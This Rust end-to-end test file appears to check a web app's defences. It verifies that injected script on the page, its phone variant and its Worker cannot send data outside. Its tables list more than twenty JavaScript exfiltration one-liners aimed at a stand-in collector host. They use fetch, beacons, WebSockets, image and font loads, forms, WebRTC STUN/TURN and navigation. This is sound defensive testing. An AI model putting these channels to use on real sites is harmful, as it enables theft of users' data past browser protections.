//! Script that got in cannot carry anything out: row 82.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use axum::http::{HeaderValue, StatusCode};
use e2e::browser::Browser;
use e2e::devtools::{DevTools, Session};
use e2e::proxy::{Answer, Asked, Proxy, Seen, Tamper, without};
use e2e::server::Server;
use e2e::sink::Sink;
use e2e::wait::{until, within};
use serde_json::{Value, json};

use crate::altered::{altered, is_page, without_policy, without_protection};

/// Takes what it is given, and permits everything that a server can permit.
struct Collector;

impl Tamper for Collector {
    fn request(&self, asked: &mut Asked) -> Option<Answer> {
        let kind = if asked.path.contains("event") { "text/event-stream" } else { "text/html" };
        let mut answer = Answer::own(StatusCode::OK, kind, "");
        for (name, value) in [
            ("access-control-allow-origin", "*"),
            ("access-control-allow-headers", "*"),
            ("cross-origin-resource-policy", "cross-origin"),
            ("cross-origin-embedder-policy", "require-corp"),
        ] {
            answer.headers.insert(name, HeaderValue::from_static(value));
        }
        Some(answer)
    }
}

/// What stops a way out on the real page.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Stop {
    /// The policy, by this directive, which reports the address.
    Policy(&'static str),
    /// Trusted Types, at this sink: the string never becomes a script or its address.
    Types(&'static str),
    /// The list of connections alone: no policy covers it, and nothing is reported.
    List,
}

use Stop::{List, Policy, Types};

/// Every way out that a page has, short of leaving, each with its own path at the collector `C`, or a port of its own.
const OF_PAGE: &[(&str, Stop, &str)] = &[
    ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
    ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
    ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
    ("socket", Policy("connect-src"), "new WebSocket(C.replace('http', 'ws') + '/socket')"),
    ("event", Policy("connect-src"), "new EventSource(C + '/event')"),
    ("beacon", Policy("connect-src"), "navigator.sendBeacon(C + '/beacon', 'x')"),
    ("ping", Policy("connect-src"), "add('a', { href: '#', ping: C + '/ping' }).click()"),
    ("quic", Policy("connect-src"), "new WebTransport(`https://${QUIC}/quic`)"),
    ("image", Policy("img-src"), "new Image().src = C + '/image'"),
    ("style", Policy("img-src"), "document.body.style.backgroundImage = `url(${C}/style)`"),
    ("sheet", Policy("style-src-elem"), "add('link', { rel: 'stylesheet', href: C + '/sheet' })"),
    ("font", Policy("font-src"), "await new FontFace('f', `url(${C}/font)`).load()"),
    ("frame", Policy("frame-src"), "add('iframe', { src: C + '/frame' })"),
    ("script", Types("HTMLScriptElement src"), "add('script', { src: C + '/script' })"),
    (
        "form",
        Policy("form-action"),
        "const f = add('form', { action: C + '/form', method: 'post', target: add('iframe', { name: 'sink' }).name }); f.submit()",
    ),
    ("prefetch", Policy("default-src"), "add('link', { rel: 'prefetch', href: C + '/prefetch' })"),
    ("preload", Policy("img-src"), "add('link', { rel: 'preload', as: 'image', href: C + '/preload' })"),
    ("media", Policy("media-src"), "add('video', { src: C + '/media' }).load()"),
    ("object", Types("HTMLObjectElement data"), "add('object', { data: C + '/object' })"),
    (
        "speculation",
        Types("HTMLScriptElement textContent"),
        "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [C + '/speculation'] }] }) })",
    ),
    ("stun", List, "await call({ urls: `stun:${STUN}` })"),
    ("turn", List, "await call({ urls: `turn:${TURN}?transport=tcp`, username: 'x', credential: 'x' })"),
    ("open", List, "open(C + '/open')"),
];

/// The same from inside the Worker.
const OF_WORKER: &[(&str, Stop, &str)] = &[
    ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
    ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
    ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
    ("socket", Policy("connect-src"), "new WebSocket(C.replace('http', 'ws') + '/socket')"),
    ("event", Policy("connect-src"), "new EventSource(C + '/event')"),
    ("quic", Policy("connect-src"), "new WebTransport(`https://${QUIC}/quic`)"),
    ("script", Types("WorkerGlobalScope importScripts"), "importScripts(C + '/script')"),
    ("font", Policy("font-src"), "await new FontFace('f', `url(${C}/font)`).load()"),
];

/// Somebody who listens outside, for everything.
struct Outside {
    web: Proxy,
    quic: Sink,
    stun: Sink,
    turn: Sink,
}

impl Outside {
    async fn new() -> Result<Self> {
        let web = Proxy::start(0, "http://127.0.0.1:1", Arc::new(Collector)).await?;
        Ok(Self { web, quic: Sink::udp().await?, stun: Sink::udp().await?, turn: Sink::tcp().await? })
    }

    /// A script that tries one way out, in a timer, because what DevTools evaluates is bound less. Whatever is thrown is a
    /// way out that is shut.
    fn attempt(&self, script: &str) -> String {
        let addresses = format!(
            "const C = {}, QUIC = {}, STUN = {}, TURN = {};",
            json!(self.web.url()),
            json!(self.quic.address()),
            json!(self.stun.address()),
            json!(self.turn.address()),
        );
        format!(
            "setTimeout(async () => {{ {addresses} \
             const add = (tag, set) => {{ const e = Object.assign(document.createElement(tag), set); document.body.append(e); return e }}; \
             const call = async server => {{ const p = new RTCPeerConnection({{ iceServers: [server] }}); (self.calls ??= []).push(p); \
               p.createDataChannel('out'); await p.setLocalDescription(await p.createOffer()) }}; \
             try {{ {script} }} catch {{}} done(true) }})"
        )
    }

    /// Names of the ways by which something came.
    fn arrived(&self) -> BTreeSet<String> {
        let seen = self.web.seen().into_iter();
        let paths = seen.filter_map(|each| match each {
            Seen::Http(asked, _) => Some(asked.path),
            Seen::Opened(_, path) => Some(path),
            Seen::ToServer(..) | Seen::ToEnd(..) => None,
        });
        let mut arrived: BTreeSet<String> = paths.map(|path| path.trim_start_matches('/').to_owned()).collect();
        arrived.remove("favicon.ico");
        for (name, sink) in [("quic", &self.quic), ("stun", &self.stun), ("turn", &self.turn)] {
            if sink.arrived() > 0 {
                arrived.insert(name.to_owned());
            }
        }
        arrived
    }

    /// Waits until exactly these have come.
    async fn gets(&self, expected: &BTreeSet<String>) -> Result<()> {
        until("everything arrives", async || (self.arrived() == *expected).then_some(())).await.with_context(|| {
            let arrived = self.arrived();
            let missing: Vec<&String> = expected.difference(&arrived).collect();
            let surplus: Vec<&String> = arrived.difference(expected).collect();
            format!("missing: {missing:?}, surplus: {surplus:?}")
        })
    }

    /// Waits for what comes late, and says whether nothing came but these.
    async fn gets_only(&self, expected: &BTreeSet<String>) -> Result<()> {
        self.gets(expected).await?;
        let more = within(Duration::from_secs(2), "", async || (self.arrived() != *expected).then_some(())).await;
        anyhow::ensure!(more.is_err(), "{:?} arrived, and not only {expected:?}", self.arrived());
        Ok(())
    }
}

const WATCH: &str = "self.violations = []; addEventListener('securitypolicyviolation', \
    e => violations.push([e.effectiveDirective, e.blockedURI, e.sample]))";

async fn try_page(browser: &Browser, outside: &Outside) -> Result<Vec<Value>> {
    browser.run(WATCH).await?;
    for (name, _, script) in OF_PAGE {
        browser.run_async(&outside.attempt(script)).await.context(*name)?;
    }
    browser.run("return violations").await?.as_array().cloned().context("violations")
}

async fn try_worker(tools: &mut DevTools, worker: &Session, outside: &Outside) -> Result<Vec<Value>> {
    tools.evaluate(worker, WATCH).await?;
    for (name, _, script) in OF_WORKER {
        let script = format!("new Promise(done => {})", outside.attempt(script));
        tools.evaluate(worker, &script).await.context(*name)?;
    }
    tools.evaluate(worker, "violations").await?.as_array().cloned().context("violations")
}

fn names(ways: &[(&str, Stop, &str)], keep: impl Fn(Stop) -> bool) -> BTreeSet<String> {
    ways.iter().filter(|(_, stop, _)| keep(*stop)).map(|(name, ..)| (*name).to_owned()).collect()
}

/// Each way was shut by what the table says: the browser reported it.
fn reported(ways: &[(&str, Stop, &str)], violations: &[Value]) {
    let text = |each: &Value, at: usize| each[at].as_str().unwrap_or_default().to_owned();
    for (name, stop, _) in ways {
        let fits = |each: &&Value| match stop {
            // Of a frame the browser tells the origin alone.
            Policy(directive @ "frame-src") => text(each, 0) == *directive,
            Policy(directive) => text(each, 0) == *directive && text(each, 1).ends_with(&format!("/{name}")),
            Types(sink) => text(each, 0) == "require-trusted-types-for" && text(each, 2).starts_with(sink),
            List => true,
        };
        assert!(violations.iter().any(|each| fits(&each)), "{name} by {stop:?}: {violations:#?}");
    }
}

/// The real page with one of its two walls, both or none.
async fn walled(server: &Server, policy: bool, list: bool) -> Result<Proxy> {
    altered(server, move |asked, mut answer| {
        if is_page(asked) {
            match (policy, list) {
                (false, false) => without_protection(&mut answer),
                (false, true) => without_policy(&mut answer),
                (true, _) => {}
            }
            if !list {
                without(&mut answer, "connection-allowlist");
            }
        }
        Some(answer)
    })
    .await
}

async fn begin() -> Result<(Server, Browser)> {
    let browser = Browser::with(&["--headless=new", "--window-size=1280,900", "--allow-loopback-in-peer-connection"]);
    tokio::try_join!(Server::start(), browser)
}

#[tokio::test]
async fn t082_the_page_can_carry_nothing_out() -> Result<()> {
    page_carries_nothing_out("", "enter").await
}

#[tokio::test]
async fn t082_nor_can_the_page_of_the_phone() -> Result<()> {
    page_carries_nothing_out("/device", "start").await
}

async fn page_carries_nothing_out(path: &str, first: &str) -> Result<()> {
    let (server, browser) = begin().await?;
    for (policy, list, arrives) in [
        // Control: without protection every way is open, and each is seen outside.
        (false, false, names(OF_PAGE, |_| true)),
        // The policy alone, as in a browser that does not know the list: these it does not stop, and the threat model says so.
        (true, false, names(OF_PAGE, |stop| stop == List)),
        // The list alone stops all of it.
        (false, true, BTreeSet::new()),
        (true, true, BTreeSet::new()),
    ] {
        let page = walled(&server, policy, list).await?;
        let outside = Outside::new().await?;
        browser.go(&format!("{}{path}", page.url())).await?;
        browser.screen(first).await?;
        let violations = try_page(&browser, &outside).await?;
        outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
        if policy {
            reported(OF_PAGE, &violations);
        }
        // The page is still there and answers.
        browser.screen(first).await?;
    }
    Ok(())
}

#[tokio::test]
async fn t082_nor_can_the_worker() -> Result<()> {
    worker_carries_nothing_out("", "enter").await
}

#[tokio::test]
async fn t082_nor_can_the_worker_of_the_phone() -> Result<()> {
    worker_carries_nothing_out("/device", "start").await
}

async fn worker_carries_nothing_out(path: &str, first: &str) -> Result<()> {
    let (server, browser) = begin().await?;
    for (policy, list, arrives) in [
        (false, false, names(OF_WORKER, |_| true)),
        (true, false, BTreeSet::new()),
        (false, true, BTreeSet::new()),
        (true, true, BTreeSet::new()),
    ] {
        let page = walled(&server, policy, list).await?;
        let outside = Outside::new().await?;
        browser.go(&format!("{}{path}", page.url())).await?;
        browser.screen(first).await?;
        let mut tools = browser.devtools().await?;
        let session = tools.page().await?;
        let worker = tools.worker(&session).await?;
        let violations = try_worker(&mut tools, &worker, &outside).await?;
        outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
        if policy {
            reported(OF_WORKER, &violations);
        }
    }
    Ok(())
}

#[tokio::test]
async fn t082_leaving_is_not_stopped_in_every_case() -> Result<()> {
    let (server, browser) = begin().await?;
    for (list, by_driver, leaves) in [
        // Control: without the list, script leaves when it likes.
        (false, false, true),
        (true, false, false),
        // Not stopped, and the threat model says so: the same line, run by WebDriver.
        (true, true, true),
    ] {
        let page = walled(&server, true, list).await?;
        let outside = Outside::new().await?;
        browser.go(&page.url()).await?;
        browser.screen("enter").await?;
        let leave = outside.attempt("location.href = C + '/leave'");
        if by_driver {
            browser.run_async(&leave).await?;
        } else {
            let mut tools = browser.devtools().await?;
            let session = tools.page().await?;
            // What WebDriver ran counts as a person's touch, for some seconds.
            let mut active = json!(true);
            while active == json!(true) {
                active = tools.evaluate(&session, "navigator.userActivation.isActive").await?;
            }
            tools.evaluate(&session, &format!("{{ const done = () => 0; {leave} }} 0")).await?;
        }
        let expected = if leaves { BTreeSet::from(["leave".to_owned()]) } else { BTreeSet::new() };
        outside.gets_only(&expected).await.with_context(|| format!("list {list}, by WebDriver {by_driver}"))?;
    }
    Ok(())
}
